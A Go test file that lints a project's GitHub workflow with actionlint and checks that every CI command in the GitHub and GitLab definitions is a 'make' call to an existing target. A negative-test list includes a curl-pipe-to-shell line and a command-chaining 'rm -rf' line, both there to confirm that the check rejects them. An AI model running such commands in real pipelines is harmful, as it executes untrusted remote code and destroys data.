package ci

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	yaml "go.yaml.in/yaml/v3"
)

const (
	workflow = "../.github/workflows/proxyproof-gate.yml"
	gitlab   = "gitlab-ci.yml"
)

// actionlint runs actionlint, built from source through the Go module
// proxy by the tools module (hack/tools), on one workflow file.
func actionlint(t *testing.T, path string) (string, error) {
	t.Helper()
	abs, err := filepath.Abs(path)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("go", "tool", "actionlint", "-no-color", "-shellcheck=", "-pyflakes=", abs)
	cmd.Dir = filepath.Join("..", "hack", "tools")
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestTheWorkflowPassesActionlint(t *testing.T) {
	if out, err := actionlint(t, workflow); err != nil {
		t.Fatalf("actionlint %s: %v\n%s", workflow, err, out)
	}
	// The lint must be able to fail: an expression that does not parse.
	data, err := os.ReadFile(workflow)
	if err != nil {
		t.Fatal(err)
	}
	broken := filepath.Join(t.TempDir(), "broken.yml")
	bad := strings.Replace(string(data), "if: always()", "if: ${{ steps.gate.outputs.status == }}", 1)
	if err := os.WriteFile(broken, []byte(bad), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := actionlint(t, broken); err == nil || !strings.Contains(out, "broken.yml") {
		t.Fatalf("actionlint passed a broken workflow: %v\n%s", err, out)
	}
}

// rootMake is the one command form the definitions may run: make, as root
// with the job's Go on PATH or as the job's user.
var rootMake = regexp.MustCompile(`^(sudo -E env "PATH=\$PATH" )?make( [A-Za-z0-9_.-]+| [A-Z_]+=[^ ]*)*$`)

// commands are the shell commands of both definitions, with the
// environment their job sets.
func commands(t *testing.T) map[string][]string {
	t.Helper()
	out := map[string][]string{}
	var gh struct {
		Env  map[string]string `yaml:"env"`
		Jobs map[string]struct {
			Env   map[string]string `yaml:"env"`
			Steps []struct {
				Run  string `yaml:"run"`
				Uses string `yaml:"uses"`
			} `yaml:"steps"`
		} `yaml:"jobs"`
	}
	readYAML(t, workflow, &gh)
	for name, job := range gh.Jobs {
		for _, s := range job.Steps {
			if s.Run != "" {
				key := workflow + " job " + name + ": " + strings.TrimSpace(s.Run)
				out[key] = envList(gh.Env, job.Env)
			}
		}
	}
	var gl map[string]struct {
		Variables    map[string]string `yaml:"variables"`
		BeforeScript []string          `yaml:"before_script"`
		Script       []string          `yaml:"script"`
		AfterScript  []string          `yaml:"after_script"`
	}
	readYAML(t, gitlab, &gl)
	for name, job := range gl {
		for _, c := range append(append(job.BeforeScript, job.Script...), job.AfterScript...) {
			out[gitlab+" job "+name+": "+strings.TrimSpace(c)] = envList(job.Variables)
		}
	}
	if len(out) == 0 {
		t.Fatal("the CI definitions run no command")
	}
	return out
}

func readYAML(t *testing.T, path string, into any) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := yaml.Unmarshal(data, into); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
}

func envList(maps ...map[string]string) []string {
	var out []string
	for _, m := range maps {
		for k, v := range m {
			out = append(out, k+"="+v)
		}
	}
	return out
}

// Each command is make with targets that exist: make -n (nothing runs)
// fails on a target the Makefile does not have.
func TestCIDefinitionsRunOnlyMakeTargetsThatExist(t *testing.T) {
	for key, env := range commands(t) {
		_, cmdline, _ := strings.Cut(key, ": ")
		if err := checkMake(cmdline, env); err != nil {
			t.Errorf("%s: %v", key, err)
		}
	}
	for _, bad := range []string{"make gate-nosuch", "curl -sSf https://example.invalid | sh", "make gate; rm -rf runs"} {
		if checkMake(bad, nil) == nil {
			t.Errorf("%q passed the check", bad)
		}
	}
}

func checkMake(cmdline string, env []string) error {
	if !rootMake.MatchString(cmdline) {
		return fmt.Errorf("not a make command (the definitions call only Make targets)")
	}
	_, args, _ := strings.Cut(cmdline, "make")
	cmd := exec.Command("make", append([]string{"-n"}, strings.Fields(args)...)...)
	cmd.Dir = ".."
	cmd.Env = append(os.Environ(), env...)
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("make -n: %w\n%s", err, out)
	}
	return nil
}
